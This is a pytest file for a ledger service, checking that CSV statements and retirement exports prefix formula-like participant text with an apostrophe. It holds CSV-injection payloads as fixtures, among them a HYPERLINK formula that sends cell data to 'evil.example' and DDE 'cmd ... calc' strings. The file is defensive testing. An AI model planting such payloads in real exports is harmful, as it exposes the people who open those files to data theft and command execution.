"""CSV formula injection: participant-written text in a CSV must never open as a live formula.

A participant named ``=HYPERLINK("http://x","y")`` trades, deposits (with a hostile bank
reference) and retires (hostile beneficiary and note) on a real node. Its monthly statement (as
``crev statement monthly --csv`` and the signed API route write it, over a real socket) and the
retirement export are read back with the csv module: every text cell that starts with ``=``,
``+``, ``-``, ``@``, tab, CR or LF carries a leading ``'`` (OWASP, "CSV Injection"), while
number cells — a withdrawal's net of -1200 JPY included — stay plain numbers.
"""

from __future__ import annotations

import csv
import io
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from crev.ledger.messages.deposit_jpy import DepositJpy
from crev.ledger.messages.list_market import ListMarket
from crev.ledger.messages.place_order import PlaceOrder
from crev.ledger.messages.register_participant import RegisterParticipant
from crev.ledger.messages.retire import Retire
from crev.ledger.messages.withdraw_jpy import WithdrawJpy
from crev.ledger.records import ANY
from crev.node.node import LedgerView
from crev.reports.export import csv_cell, lot_rows, retirement_rows, rows_csv
from crev.reports.statements import CSV_FIELDS, monthly_statement, retirement_statement, statement_csv
from crev.service.auth import sign_request
from crev.service.server import serve_in_thread
from tests.node import nodekit as k

EVIL = "mallory-co"
NAME = '=HYPERLINK("http://x","y")'
DEPOSIT_REF = "@SUM(1+1)*cmd|' /C calc'!A0"
WITHDRAW_REF = "-1200"  # text that looks like a number: a text cell, so it is neutralised too
BENEFICIARY = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
NOTE = "+cmd|' /C calc'!A0"
JURISDICTION = "\t=1+1"
MONTH = 202607  # nodekit's clock: 2026-07-01 JST
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMERIC = ("quantity_g", "price_jpy_per_t", "value_jpy", "fee_jpy", "net_jpy", "height")


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    d = k.init_dir(tmp_path_factory.mktemp("csv") / "ledger")
    node = k.open_node(d)
    try:
        s = k.register_fleet(node, 1)
        assert node.submit_wait(k.readings_tx([k.reading(0, j) for j in range(3)])).ok
        lot = "dgc-0:20260601T0900"
        for signer, msg in [
            (k.OPERATOR, RegisterParticipant(EVIL, NAME, "buyer", k.key(EVIL).public_key)),
            (k.OPERATOR, ListMarket("spot", "Spot", "continuous", ANY, 1, 10**9, 100, 100, 0, True)),
            (k.OPERATOR, DepositJpy(EVIL, 10_000, DEPOSIT_REF)),
            (k.OPERATOR, WithdrawJpy(EVIL, 1_200, WITHDRAW_REF)),
            (k.OWNER, PlaceOrder("spot", "ask", 1_000_000, 315, "gtc", 0, ANY, ((lot, 315),), None)),
            (EVIL, PlaceOrder("spot", "bid", 1_000_000, 315, "gtc", 0, ANY, (), None)),
        ]:
            r = node.submit_wait(s.tx(signer, msg))
            assert r.ok, r.error
        r = node.submit_wait(s.tx(EVIL, Retire(((lot, 100),), BENEFICIARY, "re100", k.T0 - 61 * 86400,
                                               k.T0 + 304 * 86400, JURISDICTION, NOTE)))
        assert r.ok, r.error
        rid = r.detail[0]
    finally:
        node.close()
    yield d, rid


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(DANGEROUS):
                int(cell)  # only a genuine (negative) number may start with "-"


def check_statement(text: str) -> None:
    rows = rows_of(text)
    assert_no_live_formula(rows)
    head, cols, lines = rows[0], rows[1], rows[2:]
    assert head[:3] == ["# statement", EVIL, "'" + NAME]
    assert tuple(cols) == CSV_FIELDS
    by_kind = {r[cols.index("kind")]: dict(zip(cols, r, strict=True)) for r in lines}
    assert set(by_kind) == {"deposit", "withdrawal", "bought", "retired"}
    assert by_kind["deposit"]["ref"] == "'" + DEPOSIT_REF
    withdrawal = by_kind["withdrawal"]
    assert withdrawal["ref"] == "'-1200"  # the bank reference: text
    assert withdrawal["net_jpy"] == "-1200" and withdrawal["value_jpy"] == "1200"  # the amount: a number
    bought = by_kind["bought"]
    # 315 g at 1,000,000 JPY/t = 315 JPY, fee ⌊315 × 100 / 10,000⌋ = 3 JPY
    assert (bought["counterparty"], bought["net_jpy"], bought["fee_jpy"]) == (k.OWNER, "-318", "3")
    for line in lines:
        for c in NUMERIC:
            int(line[cols.index(c)])


def test_monthly_statement_csv_neutralises_participant_text(ledger: tuple[Path, str]) -> None:
    view = LedgerView(ledger[0])
    try:
        stmt = monthly_statement(view.state, view.store, EVIL, MONTH)
    finally:
        view.close()
    assert stmt.name == NAME  # the ledger keeps what was written; only the CSV cell is defused
    check_statement(statement_csv(stmt))


def test_statement_csv_over_the_api_is_neutralised(ledger: tuple[Path, str]) -> None:
    node = k.open_node(ledger[0])
    server = serve_in_thread(node, "127.0.0.1", 0, rate=0)
    try:
        path = f"/v1/accounts/{EVIL}/statements/2026-07.csv"
        req = urllib.request.Request(f"http://127.0.0.1:{server.port}{path}",
                                     headers=sign_request(k.key(EVIL), EVIL, "GET", path, int(time.time())))
        with urllib.request.urlopen(req, timeout=60) as resp:
            assert resp.headers["Content-Type"].startswith("text/csv")
            text = resp.read().decode("utf-8")
    finally:
        server.stop()
        node.close()
    check_statement(text)


def test_retirement_export_csv_neutralises_beneficiary_note_and_jurisdiction(ledger: tuple[Path, str]) -> None:
    view = LedgerView(ledger[0])
    try:
        rows = retirement_rows(view.state)
        lots = lot_rows(view.state)
        cert = retirement_statement(view.state, ledger[1])
    finally:
        view.close()
    got = list(csv.DictReader(io.StringIO(rows_csv(rows))))
    assert_no_live_formula(rows_of(rows_csv(rows)))
    assert len(got) == 1
    r = got[0]
    assert (r["beneficiary"], r["note"], r["jurisdiction"]) == ("'" + BENEFICIARY, "'" + NOTE, "'" + JURISDICTION)
    assert (r["retirement_id"], r["account"], r["quantity_g"]) == (ledger[1], EVIL, "100")
    # the retirement statement (JSON, PDF) keeps the text as written: only CSV cells are defused
    assert (cert["beneficiary"], cert["note"]) == (BENEFICIARY, NOTE)
    # lots: every number stays a number, text cells that are safe are unchanged
    lot_csv = list(csv.DictReader(io.StringIO(rows_csv(lots))))
    assert [x["lot_id"] for x in lot_csv] == [x["lot_id"] for x in lots]
    assert [int(x["quantity_g"]) for x in lot_csv] == [x["quantity_g"] for x in lots]
    assert [float(x["latitude"]) for x in lot_csv] == [x["latitude"] for x in lots]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("Sun Co", "Sun Co"), ("", ""), ("a=1", "a=1"), (" =1", " =1"),
    ("'=1", "'=1"), (-1200, -1200), (-139.69, -139.69), (0, 0), (True, True), (None, None),
])
def test_csv_cell_prefixes_text_only(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def test_rows_csv_keeps_negative_numbers_numeric() -> None:
    text = rows_csv([{"ref": "-5", "net_jpy": -5, "longitude": -122.42, "memo": "=x"}])
    assert rows_of(text) == [["ref", "net_jpy", "longitude", "memo"], ["'-5", "-5", "-122.42", "'=x"]]
    assert rows_csv([]) == ""


def test_cli_export_csv_is_neutralised(ledger: tuple[Path, str]) -> None:
    from click.testing import CliRunner

    from crev.cli import main

    res = CliRunner().invoke(main, ["export", str(ledger[0]), "retirements", "--format", "csv"])
    assert res.exit_code == 0, res.output
    assert_no_live_formula(rows_of(res.output))
